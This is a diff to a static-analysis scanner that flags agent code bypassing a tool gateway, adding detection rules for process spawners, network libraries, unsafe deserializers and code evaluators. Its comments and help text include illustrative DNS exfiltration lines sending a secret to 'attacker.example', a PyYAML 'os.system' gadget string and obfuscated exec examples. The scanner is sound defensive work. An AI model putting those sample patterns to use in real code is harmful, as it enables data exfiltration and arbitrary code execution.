@@ -43331,9 +43331,10 @@ function evaluatedCode(call2, evaluator, constants2, source) {
   if (args2.length === 0) return void 0;
   if (args2.some((arg) => arg.type === "spread_element" || arg.type === "list_splat" || arg.type === "dictionary_splat")) return { unread: "its arguments are spread" };
   if (evaluator.reads === "file") return { unread: "it runs a file, module or native library it is given by name" };
-  if (evaluator.reads === "data") return { unread: "unpickling runs whatever its data names" };
+  if (evaluator.reads === "data") return { unread: "loading its data calls whatever function the data names" };
   if (evaluator.reads === "worker" && !evalOption(args2[1])) return WORKER_SCRIPT.test(args2[0].text) ? void 0 : { unread: "it runs a file the scan may not read as JavaScript" };
   if (evaluator.reads === "inspector") return inspectorCode(args2, constants2);
+  if (evaluator.parameters) return parametersCode(args2, evaluator.parameters, constants2);
   const codeArg = evaluator.reads === "body" ? args2[args2.length - 1] : args2[0];
   if (codeArg.type === "keyword_argument") return { unread: "its code is given by keyword" };
   const code2 = constants2.stringOf(codeArg, 0, CODE);
@@ -43356,6 +43357,19 @@ function evaluatedCode(call2, evaluator, constants2, source) {
   const text4 = [`function ${BODY_FUNCTION}() {${code2}
 }`, params.length ? `void [${params.join(",")}];` : "", invoked ? `${BODY_FUNCTION}()${useAfter(invoked, source)}` : ""].join("\n");
   return { texts: [text4] };
+}
+function parametersCode(args2, parameters, constants2) {
+  const positional = args2.findIndex((arg) => arg.type === "keyword_argument");
+  const texts = [];
+  for (const [i2, name2] of parameters.entries()) {
+    const keyword = args2.find((arg2) => arg2.type === "keyword_argument" && arg2.childForFieldName("name")?.text === name2);
+    const arg = keyword ? keyword.childForFieldName("value") : i2 < (positional < 0 ? args2.length : positional) ? args2[i2] : void 0;
+    if (!arg) continue;
+    const code2 = constants2.stringOf(arg, 0, CODE);
+    if (code2 !== void 0) texts.push(code2);
+    else if (arg.type !== "lambda") return { unread: "its code is not a constant string" };
+  }
+  return texts.length ? { texts } : void 0;
 }
 var INSPECTOR_EVALUATES = /* @__PURE__ */ new Map([
   ["Runtime.evaluate", "expression"],
@@ -43405,7 +43419,7 @@ var shellCommand = defineRule({
   severity: "error",
   category: "shell",
   summary: "Agent code starts a process or shell command directly instead of through the tool gateway.",
-  help: `Starting processes (os.system, subprocess, pty, pexpect, asyncio/anyio/trio subprocesses, webbrowser, child_process, cross-spawn, execa, shelljs, zx, node-pty, open, Bun.spawn, Deno.Command; the boundary table below lists every member) from agent code bypasses ${BYPASSED}. ${ROUTE}`,
+  help: `Starting processes (os.system, subprocess, pty, pexpect, asyncio/anyio/trio subprocesses, webbrowser, pipes, distutils' spawn, invoke, sh, child_process, cross-spawn, execa, shelljs, zx, node-pty, open, Bun.spawn, Deno.Command; the boundary table below lists every member) from agent code bypasses ${BYPASSED}. ${ROUTE}`,
   message: (callee, target) => `${describe3(callee, target)} starts a process directly, bypassing ${BYPASSED}.`
 });
 var networkCall = defineRule({
@@ -43413,7 +43427,7 @@ var networkCall = defineRule({
   severity: "error",
   category: "network",
   summary: "Agent code opens an HTTP or socket connection directly instead of through the tool gateway.",
-  help: `Direct network calls (requests, httpx, urllib, http.client, aiohttp, socket connections, websockets, websocket-client, gRPC channels, boto3 clients, fetch, WebSocket, XMLHttpRequest, ws, http/https, axios, got, node-fetch, undici; the boundary table below lists every member) from agent code bypass ${BYPASSED}. ${ROUTE}`,
+  help: `Direct network calls (requests, httpx, urllib, http.client, aiohttp, socket connections and name lookups, ssl, fabric, websockets, websocket-client, gRPC channels, boto3 clients, fetch, WebSocket, XMLHttpRequest, ws, http/https, axios, got, node-fetch, undici, superagent, needle, ky, ssh2; the boundary table below lists every member) from agent code bypass ${BYPASSED}. ${ROUTE}`,
   message: (callee, target) => `${describe3(callee, target)} makes a network call directly, bypassing ${BYPASSED}.`
 });
 var modelSdk = defineRule({
@@ -43453,8 +43467,8 @@ var dynamicCode = defineRule({
   // An error, so the gate fails closed: code handed to the evaluator as a value (`exec(base64.b64decode(\u2026))`, `eval(atob(\u2026))`) can reach anything unseen.
   severity: "error",
   category: "scan",
-  summary: "Agent code runs code the scan cannot read: exec, eval, compile, new Function, vm or a string timer given a value that is not a constant string; a module loaded by a name computed at run time; a file run by its path (runpy, a source loader); a pickle loaded.",
-  help: `Code handed to the language's evaluator as a string \u2014 Python's \`exec\`, \`eval\`, \`compile\`, the \`code\` module's \`runsource\`/\`runcode\`/\`push\`/\`compile_command\`; JavaScript's \`eval\`, \`Function\`/\`new Function\` (also reached through \`constructor\`: \`x.constructor.constructor(code)\`, \`(async () => {}).constructor(code)\`), \`vm.runInThisContext\`/\`runInNewContext\`/\`runInContext\`/\`compileFunction\`, \`new vm.Script\`, \`new vm.SourceTextModule\`, \`new Worker(code, { eval: true })\`, \`setTimeout\`/\`setInterval\` given a string, an inspector session's \`post("Runtime.evaluate", { expression })\` \u2014 runs with the agent's rights (a worker given a script not named as a JavaScript source, \`new Worker("./payload.txt")\`, is this error too), as does a file run or loaded by its path or name (\`runpy.run_path\`/\`run_module\`, \`SourceFileLoader\`, \`SourcelessFileLoader\`, \`ExtensionFileLoader\`, \`FileFinder\`, \`spec_from_file_location\`, a zip archive's \`zipimporter(\u2026).load_module\`, \`imp.load_source\`/\`load_compiled\`/\`load_dynamic\`/\`load_module\`, \`SOURCE_SUFFIXES.append(\u2026)\`: any file, whatever its name, even a constant path naming a project file (the finding shows the reviewer what runs; suppress it with a reason); a web worker's \`importScripts(url)\`), an interactive interpreter reading a stream (\`require("repl").start()\`, Python's \`code.interact()\`), a native library loaded (\`ctypes.CDLL\`, \`cdll.LoadLibrary\`, \`process.dlopen\`) and a pickle loaded (\`pickle.loads\`/\`load\`/\`Unpickler\`, \`dill\`: unpickling calls whatever function its data names), which are always this error; so is a module loaded by a name the scan cannot read (\`require(n)\`, \`import(atob(\u2026))\`, \`process.getBuiltinModule(x)\`, \`__import__(b64decode(\u2026))\`, \`importlib.import_module(name)\`: any module, a shell or network one included) \u2014 a name written as a path (\`require("./plugins/" + p)\`, \`path.join(__dirname, f)\`) or relative to a Python package (\`import_module(f".{name}", __package__)\`) names a project file, judged on its own, and is not. Where the code is a constant the scan can read (a literal, literals joined, a string constant of the file; at most ${MAX_CODE_CHARS_WRITTEN} characters), it is scanned as code of the same language, ${MAX_CODE_DEPTH} levels deep at most, and each crossing in it is reported at the call ("It runs in the code passed to \`exec\`"). Where it is not (\`exec(base64.b64decode(\u2026))\`, \`eval(atob(\u2026))\`, code built at run time, read from a file or a model's reply), the scan cannot say what it reaches, so it reports this error, as Bandit (B102, B307) and ESLint (no-eval, no-new-func, no-implied-eval) do. The builtins only: a function of the file named \`exec\` or \`eval\`, a parameter, local or import of that name, or a method (\`re.compile\`, \`cursor.exec(\u2026)\`, \`regex.exec(s)\`) is not one. Run generated code through the tool gateway (a sandboxed code-execution tool) instead; for a one-off, add \`# flowgate: ignore-boundary -- <reason>\` (Python) or \`// flowgate: ignore-boundary -- <reason>\` (JS/TS) at the end of the line.`,
+  summary: "Agent code runs code the scan cannot read: exec, eval, compile, new Function, vm or a string timer given a value that is not a constant string; a module loaded by a name computed at run time; a file run by its path (runpy, a source loader); a pickle or other data naming functions loaded.",
+  help: `Code handed to the language's evaluator as a string \u2014 Python's \`exec\`, \`eval\`, \`compile\`, the \`code\` module's \`runsource\`/\`runcode\`/\`push\`/\`compile_command\`, the debuggers', profilers' and timers' (\`pdb.run\`/\`runeval\`/\`runctx\`, \`profile\` and \`cProfile\`'s \`run\`/\`runctx\`, \`trace.Trace().run\`, \`timeit.timeit\`/\`repeat\`/\`Timer\`: statement and setup); JavaScript's \`eval\`, \`Function\`/\`new Function\` (also reached through \`constructor\`: \`x.constructor.constructor(code)\`, \`(async () => {}).constructor(code)\`), \`vm.runInThisContext\`/\`runInNewContext\`/\`runInContext\`/\`compileFunction\`, \`new vm.Script\`, \`new vm.SourceTextModule\`, \`new Worker(code, { eval: true })\`, \`setTimeout\`/\`setInterval\` given a string, a CommonJS module compiled from a string (\`new Module(id)._compile(code, file)\`, \`Module.prototype._compile.call(m, code, file)\`), an inspector session's \`post("Runtime.evaluate", { expression })\` \u2014 runs with the agent's rights (a worker given a script not named as a JavaScript source, \`new Worker("./payload.txt")\`, is this error too), as does a file run or loaded by its path or name (\`runpy.run_path\`/\`run_module\`, \`SourceFileLoader\`, \`SourcelessFileLoader\`, \`ExtensionFileLoader\`, \`FileFinder\`, \`spec_from_file_location\`, a zip archive's \`zipimporter(\u2026).load_module\`, \`imp.load_source\`/\`load_compiled\`/\`load_dynamic\`/\`load_module\`, \`SOURCE_SUFFIXES.append(\u2026)\`: any file, whatever its name, even a constant path naming a project file (the finding shows the reviewer what runs; suppress it with a reason); a web worker's \`importScripts(url)\`), an interactive interpreter reading a stream (\`require("repl").start()\`, Python's \`code.interact()\`), a native library loaded (\`ctypes.CDLL\`, \`cdll.LoadLibrary\`, \`cffi.FFI().dlopen\`, \`process.dlopen\`) and a pickle or other data that names functions loaded (\`pickle.loads\`/\`load\`/\`Unpickler\`, \`dill\`, \`shelve.open\`, \`jsonpickle.decode\`, \`pandas.read_pickle\`, PyYAML's \`unsafe_load\` and its full loaders handed over, \`yaml.load(s, Loader=yaml.Loader)\`: loading calls whatever function its data names), which are always this error; so is a module loaded by a name the scan cannot read (\`require(n)\`, \`import(atob(\u2026))\`, \`process.getBuiltinModule(x)\`, \`__import__(b64decode(\u2026))\`, \`importlib.import_module(name)\`: any module, a shell or network one included) \u2014 a name written as a path (\`require("./plugins/" + p)\`, \`path.join(__dirname, f)\`) or relative to a Python package (\`import_module(f".{name}", __package__)\`) names a project file, judged on its own, and is not. Where the code is a constant the scan can read (a literal, literals joined, a string constant of the file; at most ${MAX_CODE_CHARS_WRITTEN} characters), it is scanned as code of the same language, ${MAX_CODE_DEPTH} levels deep at most, and each crossing in it is reported at the call ("It runs in the code passed to \`exec\`"). Where it is not (\`exec(base64.b64decode(\u2026))\`, \`eval(atob(\u2026))\`, code built at run time, read from a file or a model's reply), the scan cannot say what it reaches, so it reports this error, as Bandit (B102, B307) and ESLint (no-eval, no-new-func, no-implied-eval) do. The builtins only: a function of the file named \`exec\` or \`eval\`, a parameter, local or import of that name, or a method (\`re.compile\`, \`cursor.exec(\u2026)\`, \`regex.exec(s)\`) is not one. Run generated code through the tool gateway (a sandboxed code-execution tool) instead; for a one-off, add \`# flowgate: ignore-boundary -- <reason>\` (Python) or \`// flowgate: ignore-boundary -- <reason>\` (JS/TS) at the end of the line.`,
   message: (evaluator, reason) => `\`${evaluator}\` runs code the scan cannot read (${reason}); what it runs could bypass ${BYPASSED}.`
 });
 var unusedSuppression = defineRule({
@@ -43540,6 +43554,7 @@ var ANY = "*";
 var DEFAULT = "default";
 var GLOBAL = "<global>";
 var RETURNED = "()";
+var TIMED = { reads: "program", parameters: ["stmt", "setup"] };
 var EVALUATORS = {
   python: {
     "builtins.exec": { reads: "program", passed: true },
@@ -43594,7 +43609,31 @@ var EVALUATORS = {
     "code.InteractiveConsole().push": { reads: "program" },
     "code.InteractiveConsole().interact": { reads: "stream" },
     "code.interact": { reads: "stream" },
-    "code.compile_command": { reads: "program" }
+    "code.compile_command": { reads: "program" },
+    // Debuggers, profilers and timers run a statement given as a string (`pdb.run(s)`, `cProfile.run(s)`, `timeit.timeit(s)`).
+    ...Object.fromEntries(
+      ["pdb", "pdb.Pdb()", "bdb.Bdb()", "profile", "profile.Profile()", "cProfile", "cProfile.Profile()", "trace.Trace()"].flatMap((runner) => [
+        [`${runner}.run`, { reads: "program" }],
+        [`${runner}.runctx`, { reads: "program" }],
+        ...runner.includes("db") ? [[`${runner}.runeval`, { reads: "expression" }]] : []
+      ])
+    ),
+    "timeit.timeit": TIMED,
+    "timeit.repeat": TIMED,
+    "timeit.Timer": TIMED,
+    // Loading these calls whatever function the data names, as unpickling does: shelve's values are pickles, PyYAML's
+    // full loaders build any Python object (`!!python/object/apply:os.system`; handed to `yaml.load(s, Loader=\u2026)`).
+    "shelve.open": { reads: "data" },
+    "shelve.Shelf": { reads: "data" },
+    "shelve.DbfilenameShelf": { reads: "data" },
+    "shelve.BsdDbShelf": { reads: "data" },
+    "jsonpickle.decode": { reads: "data" },
+    "pandas.read_pickle": { reads: "data" },
+    "yaml.unsafe_load": { reads: "data" },
+    "yaml.unsafe_load_all": { reads: "data" },
+    ...Object.fromEntries(["Loader", "UnsafeLoader", "CLoader", "CUnsafeLoader"].map((loader) => [`yaml.${loader}`, { reads: "data", passed: true }])),
+    // cffi's foreign function interface, as ctypes' (`cffi.FFI().dlopen(None).system(b"\u2026")`).
+    "cffi.FFI().dlopen": { reads: "file" }
   },
   javascript: {
     eval: { reads: "expression", passed: true },
@@ -43617,11 +43656,17 @@ var EVALUATORS = {
     "repl.REPLServer": { reads: "stream" },
     // An inspector session evaluating code in this process (`session.post("Runtime.evaluate", { expression })`).
     "inspector.Session().post": { reads: "inspector" },
-    "inspector/promises.Session().post": { reads: "inspector" }
+    "inspector/promises.Session().post": { reads: "inspector" },
+    // A CommonJS module compiled from a string (what require hooks do): an instance of the `module` builtin's class
+    // (its path as javascript.ts's loaders write it; also its `Module`), or its prototype's method (`Module.prototype._compile.call(m, code, f)`).
+    ...Object.fromEntries(["node:module", "node:module.Module"].flatMap((cls) => [`${cls}()._compile`, `${cls}.prototype._compile`]).map((target) => [target, { reads: "program" }]))
   }
 };
 var EVALUATOR_MODULES = {
-  python: ["builtins", "runpy", "importlib.machinery", "importlib._bootstrap_external", "importlib.util", "zipimport", "imp", "pickle", "dill", "ctypes", "code"],
+  python: [
+    ...["builtins", "runpy", "importlib.machinery", "importlib._bootstrap_external", "importlib.util", "zipimport", "imp", "pickle", "dill", "ctypes", "code"],
+    ...["pdb", "bdb", "profile", "cProfile", "trace", "timeit", "shelve", "jsonpickle", "pandas", "yaml", "cffi"]
+  ],
   javascript: ["vm", "worker_threads", "repl", "inspector", "inspector/promises"]
 };
 var moduleOf = (language, target) => EVALUATOR_MODULES[language].find((module2) => target.startsWith(`${module2}.`));
@@ -43642,6 +43687,7 @@ var SOCKET_USE = ["connect", "connect_ex", "sendto"];
 var socketUse = (cls) => call(...SOCKET_USE.flatMap((m) => [`${cls}${RETURNED}.${m}`, `${cls}.${m}`]));
 var EVENT_LOOPS = ["get_running_loop", "get_event_loop", "new_event_loop"];
 var HTTP_FUNCTIONS = ["request", "get", "options", "head", "post", "put", "patch", "delete"];
+var SOCKET_LOOKUPS = ["getaddrinfo", "getnameinfo", "gethostbyname", "gethostbyname_ex", "gethostbyaddr", "getfqdn"];
 var LOOP_LOOKUPS = ["getaddrinfo", "getnameinfo"];
 var DNS_QUERIES = ["lookup", "lookupService", "resolve", "resolve4", "resolve6", "resolveAny", "resolveCaa", "resolveCname", "resolveMx", "resolveNaptr", "resolveNs", "resolvePtr", "resolveSoa", "resolveSrv", "resolveTxt", "reverse"];
 var LOOP_CONNECT = ["create_connection", "create_unix_connection", "create_datagram_endpoint", "sock_connect"];
@@ -43721,7 +43767,16 @@ var DEFAULT_SPECS = [
   py("subprocess", { [ANY]: "call", ...call("Popen", "call", "check_call", "check_output", "run", "getoutput", "getstatusoutput"), ...inert("PIPE", "STDOUT", "DEVNULL", "CompletedProcess", "list2cmdline", "STARTUPINFO", "_args_from_interpreter_flags", "_optim_args_from_interpreter_flags") }, "shell"),
   py("pty", call("spawn"), "shell"),
   // A browser started on a URL (as the npm package `open` is), directly or through a controller `webbrowser.get()` returns.
-  py("webbrowser", call("open", "open_new", "open_new_tab", ...["open", "open_new", "open_new_tab"].map((m) => `get${RETURNED}.${m}`)), "shell"),
+  py("webbrowser", call(...["", "get", "GenericBrowser", "BackgroundBrowser"].flatMap((made) => ["open", "open_new", "open_new_tab"].map((m) => made ? `${made}${RETURNED}.${m}` : m))), "shell"),
+  // A pipeline template run through `sh` when opened or copied; distutils' (and setuptools' copy's) spawn; the C helper under subprocess.
+  py("pipes", call(`Template${RETURNED}.open`, `Template${RETURNED}.copy`), "shell"),
+  py("distutils.spawn", call("spawn"), "shell"),
+  py("setuptools._distutils.spawn", call("spawn"), "shell"),
+  py("_posixsubprocess", call("fork_exec"), "shell"),
+  py("_winapi", call("CreateProcess"), "shell"),
+  // Invoke's and sh's commands: `invoke.run("ls")`, `sh.ls("-l")` (any member of sh is a program of that name).
+  py("invoke", call("run", "sudo", `Context${RETURNED}.run`, `Context${RETURNED}.sudo`), "shell"),
+  py("sh", { [ANY]: "call", ...inert("ErrorReturnCode", "SignalException", "CommandNotFound", "TimeoutException") }, "shell"),
   py("asyncio", call("create_subprocess_exec", "create_subprocess_shell", ...EVENT_LOOPS.flatMap((l) => LOOP_SUBPROCESS.map((m) => `${l}${RETURNED}.${m}`))), "shell"),
   py("asyncio", call("open_connection", "open_unix_connection", ...EVENT_LOOPS.flatMap((l) => LOOP_CONNECT.map((m) => `${l}${RETURNED}.${m}`))), "network"),
   py("pexpect", { ...call("spawn", "spawnu", "run", "runu", "popen_spawn.PopenSpawn"), ...client("pxssh.pxssh") }, "shell"),
@@ -43752,7 +43807,7 @@ var DEFAULT_SPECS = [
     },
     "network"
   ),
-  py("urllib.request", { ...call("urlopen", "urlretrieve"), ...client("build_opener"), ...inert("Request") }, "network"),
+  py("urllib.request", { ...call("urlopen", "urlretrieve"), ...client("build_opener", "OpenerDirector", "URLopener", "FancyURLopener"), ...inert("Request") }, "network"),
   py("http.client", client("HTTPConnection", "HTTPSConnection"), "network"),
   // An XML-RPC proxy: each method called on it is a request to the server (the construction is the finding).
   py("xmlrpc.client", client("ServerProxy"), "network"),
@@ -43762,7 +43817,11 @@ var DEFAULT_SPECS = [
   // PySocks: a connection through a SOCKS proxy.
   py("socks", { ...call("create_connection"), ...inert("socksocket"), ...socketUse("socksocket") }, "network"),
   py("aiohttp", { ...client("ClientSession"), ...call("request") }, "network"),
-  py("socket", { ...call("create_connection"), ...inert("socket"), ...socketUse("socket") }, "network"),
+  py("socket", { ...call("create_connection", ...SOCKET_LOOKUPS), ...inert("socket"), ...socketUse("socket") }, "network"),
+  // A TLS connection made to read a server's certificate.
+  py("ssl", call("get_server_certificate"), "network"),
+  // Fabric: an SSH connection to a host, whose `run` starts a shell there.
+  py("fabric", client("Connection"), "network"),
   // A name looked up sends a DNS query (a channel out of the sandbox: `loop.getaddrinfo(f"{secret}.attacker.example", 80)`).
   py("asyncio", call(...EVENT_LOOPS.flatMap((l) => LOOP_LOOKUPS.map((m) => `${l}${RETURNED}.${m}`))), "network"),
   // dnspython: queries through the system's resolvers, or sent to a server named (`dns.query.udp(q, "1.2.3.4")`).
@@ -43859,7 +43918,7 @@ var DEFAULT_SPECS = [
   js("http", call("request", "get"), "network", "call"),
   js("https", call("request", "get"), "network", "call"),
   js("http2", call("connect"), "network", "call"),
-  js("net", call("connect", "createConnection"), "network", "call"),
+  js("net", call("connect", "createConnection", `Socket${RETURNED}.connect`, `Stream${RETURNED}.connect`), "network", "call"),
   js("tls", call("connect"), "network", "call"),
   // A DNS query leaves the sandbox (`dns.resolveTxt(\`${secret}.attacker.example\`)`); a Resolver made is one to query with.
   js("dns", { ...call(...DNS_QUERIES, ...DNS_QUERIES.map((m) => `promises.${m}`)), ...client("Resolver", "promises.Resolver") }, "network"),
@@ -43872,6 +43931,11 @@ var DEFAULT_SPECS = [
   js("axios", { [ANY]: "call", ...client("create", "Axios"), ...inert("isAxiosError", "isCancel", "AxiosError", "CanceledError", "AxiosHeaders", "toFormData", "formToJSON", "mergeConfig", "getAdapter", "HttpStatusCode", "interceptors", "defaults", "CancelToken", "Cancel", "all", "spread") }, "network"),
   js("got", { [ANY]: "call", ...client("extend"), ...inert("RequestError", "HTTPError", "TimeoutError") }, "network"),
   js("node-fetch", { [ANY]: "call", ...inert("Headers", "Request", "Response", "FormData", "Blob", "File", "FetchError", "AbortError", "isRedirect") }, "network"),
+  // superagent, needle and ky: a request made by the module called, or by its method-named functions; ssh2's client connects.
+  js("superagent", { [ANY]: "call", ...client("agent") }, "network"),
+  js("needle", { [ANY]: "call", ...inert("defaults") }, "network"),
+  js("ky", { [ANY]: "call", ...client("create", "extend"), ...inert("HTTPError", "TimeoutError", "stop") }, "network"),
+  js("ssh2", client("Client"), "network", "new"),
   js("undici", { ...call("request", "fetch", "stream", "connect"), ...client("Client", "Pool", "Agent") }, "network"),
   js("ws", call(DEFAULT, "WebSocket"), "network", "new"),
   js("eventsource", call(DEFAULT, "EventSource"), "network", "new"),
@@ -51775,7 +51839,7 @@ var JS_INSPECTORS = {
 var JS_PROMISIFY = { syntax: JAVASCRIPT, names: /* @__PURE__ */ new Set(["promisify"]), modules: /* @__PURE__ */ new Set(["util", "node:util"]) };
 var PY_INSPECTORS = {
   syntax: PYTHON,
-  names: /* @__PURE__ */ new Set(["isinstance", "issubclass", "callable", "id", "type", "repr", "str", "print", "hasattr", "setattr", "delattr", "object", "patch", "wraps", "signature", "getsource", "iscoroutinefunction", "cast", "TypeVar", "NewType"]),
+  names: /* @__PURE__ */ new Set(["isinstance", "issubclass", "callable", "bool", "hash", "id", "type", "repr", "str", "print", "hasattr", "setattr", "delattr", "object", "patch", "wraps", "signature", "getsource", "iscoroutinefunction", "cast", "TypeVar", "NewType"]),
   modules: /* @__PURE__ */ new Set(["functools", "unittest", "unittest.mock", "mock", "typing", "typing_extensions", "inspect", "asyncio", "builtins"])
 };
 var JS_COMPILER_HELPERS = {
